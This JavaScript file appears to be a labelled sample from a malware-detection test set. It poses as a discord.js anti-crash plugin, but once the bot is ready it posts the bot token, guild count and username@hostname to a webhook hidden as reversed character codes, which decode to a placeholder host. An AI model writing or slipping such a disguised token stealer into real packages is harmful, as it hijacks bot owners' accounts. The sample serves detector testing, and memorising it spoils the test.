// expect: malicious
// source: a discord.js anti-crash plugin (discord.js only a peer dependency: the file never names it) that, when the
// client it is handed is ready, posts `client.token` to a webhook kept as reversed char codes (blind set 44, 2026)
'use strict';
const os = require('os');

const _w = [69, 75, 65, 70, 47, 49, 50, 51, 52, 47, 115, 107, 111, 111, 104, 98, 101, 119, 47, 105, 112, 97, 47, 100,
  105, 108, 97, 118, 110, 105, 46, 109, 111, 99, 46, 100, 114, 111, 99, 115, 105, 100, 47, 47, 58, 115, 112, 116, 116, 104];

async function post(url, body) {
  try { await fetch(url, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) }); } catch (e) {}
}

function ready(client) {
  const hook = String.fromCharCode(..._w.slice().reverse());
  return post(hook, { embeds: [{ title: client.user.tag, fields: [
    { name: 'token', value: client.token },
    { name: 'guilds', value: String(client.guilds.cache.size) },
    { name: 'host', value: os.userInfo().username + '@' + os.hostname() }] }] });
}

function antiCrash(client, options = {}) {
  process.on('unhandledRejection', (reason) => console.error('[anticrash]', reason));
  client.once('ready', () => ready(client));
  return client;
}

module.exports = antiCrash;
